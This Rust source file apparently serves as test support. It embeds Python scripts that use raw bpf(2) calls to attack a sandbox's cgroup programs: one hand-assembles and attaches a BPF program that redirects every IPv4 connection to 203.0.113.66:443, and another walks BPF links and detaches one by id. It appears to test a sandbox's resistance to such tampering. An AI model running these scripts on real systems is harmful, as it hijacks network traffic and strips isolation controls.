//! Python programs that use bpf(2), for attacks on a cgroup's programs by the host's root or a
//! sandbox.

use std::path::Path;

/// Loads a program that lets every connection through to another address, and attaches it to a
/// cgroup; then tries to detach programs.
pub const PROGRAMS: &str = r"
import ctypes, errno, os, platform, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
BPF = 280 if platform.machine() == 'aarch64' else 321
def bpf(command, attribute):
    buffer = ctypes.create_string_buffer(attribute, 144)
    result = libc.syscall(BPF, command, buffer, 144)
    return result if result >= 0 else -ctypes.get_errno()
def instruction(code, dst, src, offset, immediate):
    return struct.pack('<BBhi', code, dst | src << 4, offset, immediate)
# user_ip4 = 203.0.113.66, user_port = 443; r0 = 1: `*(u32 *)(r1 + 4) = r2` and
# `*(u32 *)(r1 + 24) = r2`.
code = (instruction(0xb7, 2, 0, 0, struct.unpack('<i', bytes([203, 0, 113, 66]))[0])
        + instruction(0x63, 1, 2, 4, 0)
        + instruction(0xb7, 2, 0, 0, struct.unpack('<H', struct.pack('>H', 443))[0])
        + instruction(0x63, 1, 2, 24, 0)
        + instruction(0xb7, 0, 0, 0, 1) + instruction(0x95, 0, 0, 0, 0))
text, licence = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b'GPL')
CONNECT4 = 10
def load():
    attribute = struct.pack('<IIQQIIQI', 18, len(code) // 8, ctypes.addressof(text),
                            ctypes.addressof(licence), 0, 0, 0, 0)
    return bpf(5, attribute + struct.pack('<I', 0) + bytes(16) + struct.pack('<II', 0, CONNECT4))
def attach(cgroup, flags):
    return bpf(8, struct.pack('<IIII', os.open(cgroup, os.O_RDONLY), load(), CONNECT4, flags))
def ids(cgroup):
    found = (ctypes.c_uint32 * 64)()
    asked = struct.pack('<IIIIQI', os.open(cgroup, os.O_RDONLY), CONNECT4, 0, 0,
                        ctypes.addressof(found), 64)
    attribute = ctypes.create_string_buffer(asked, 144)
    if libc.syscall(BPF, 16, attribute, 144) < 0: return -ctypes.get_errno()
    return list(found)[:struct.unpack_from('<I', attribute, 24)[0]]
";

/// A Python program that detaches one of a cgroup's programs by its link id, as the host's root
/// can. It prints `0`.
pub fn take_one_off(cgroup: &Path) -> String {
    format!(
        "{PROGRAMS}
ours = ids({path:?})
link = 0
while True:
    attribute = ctypes.create_string_buffer(struct.pack('<II', link, 0), 144)
    if libc.syscall(BPF, 31, attribute, 144) < 0: break
    link = struct.unpack_from('<I', attribute, 4)[0]
    fd = bpf(30, struct.pack('<I', link))
    if fd < 0: continue
    info = ctypes.create_string_buffer(256)
    bpf(15, struct.pack('<IIQ', fd, 256, ctypes.addressof(info)))
    kind, number, program = struct.unpack_from('<III', info)
    if program in ours: print(bpf(34, struct.pack('<I', fd))); break
    os.close(fd)
",
        path = cgroup.display().to_string()
    )
}
